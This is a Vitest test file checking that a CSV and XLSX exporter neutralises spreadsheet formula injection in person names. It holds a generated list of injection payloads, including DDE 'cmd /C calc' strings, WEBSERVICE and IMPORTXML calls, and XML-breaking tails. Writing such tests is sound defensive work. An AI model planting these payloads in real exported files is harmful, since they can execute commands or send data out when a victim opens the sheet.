import { expect, test } from "vitest";
import { writeCsv } from "../../../src/requests/export/csv.ts";
import { writeXlsx } from "../../../src/requests/export/xlsx.ts";
import { csvCells, sheetCells, workbookFiles } from "./readers.ts";
import { fileOf, readRequest, recordOf } from "./sample.ts";

const STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r\n=", "＝", "＋", "－", "＠", "=-+@"];
const BODIES = [
  "1+1",
  'HYPERLINK("http://example.invalid","x")',
  "cmd|' /C calc'!A0",
  "SUM(A1:A9)*cmd|'/C notepad'!A1",
  'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  'WEBSERVICE("http://example.invalid")',
  'DDE("cmd";"/C calc";"x")',
  "375 29 123",
];
const TAILS = [
  "",
  ";x",
  ',"y"',
  '"',
  "'",
  "\r\n=2+2",
  "\n@x",
  "]]></t></is></c><c><f>1</f></c>",
  "</v><f>9</f>",
  " ",
];

/** A thousand of them and more: every beginning with every body with every end. */
const PAYLOADS = STARTS.flatMap((start) =>
  BODIES.flatMap((body) => TAILS.map((tail) => start + body + tail)),
);

/** As names, ten people to a request: where families write whatever they like. */
const records = Array.from({ length: Math.ceil(PAYLOADS.length / 10) }, (_, at) => {
  const ten = PAYLOADS.slice(at * 10, at * 10 + 10);
  const answers = Object.fromEntries(ten.map((text, person) => [`name.${person}`, { text }]));
  return recordOf(readRequest({ answers, people: ten.length }));
});

test("of a thousand names that are formulas none is one in a CSV, and none is lost", () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(1000);
  const [head = [], ...rows] = csvCells(writeCsv(fileOf(records)));
  const names = rows.map((row) => row[head.indexOf("name")] ?? "");
  expect(names).toHaveLength(PAYLOADS.length);
  for (const row of rows) {
    expect(row).toHaveLength(head.length);
    expect(row.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
  }
  expect(names).toEqual(PAYLOADS.map((payload) => `'${payload}`));
});

test("in a workbook every cell is a string and none is a formula", async () => {
  const bytes = await writeXlsx(fileOf(records));
  const files = workbookFiles(bytes);
  for (const [name, xml] of files) if (name.startsWith("xl/worksheets/")) expect(xml).not.toMatch(/<f[\s>/]/);
  const kinds = [...(files.get("xl/worksheets/sheet1.xml") ?? "").matchAll(/<c [^>]*>/g)].map(
    ([cell]) => cell,
  );
  expect(kinds.length).toBeGreaterThan(PAYLOADS.length);
  for (const cell of kinds) expect(cell).toMatch(/t="(s|inlineStr)"/);
  const [head = [], ...rows] = sheetCells(bytes);
  const shown = rows.map((row) => (row[head.indexOf("Имя")] ?? "").replaceAll("\r\n", "\n"));
  expect(shown).toEqual(PAYLOADS.map((payload) => payload.replaceAll("\r\n", "\n")));
});
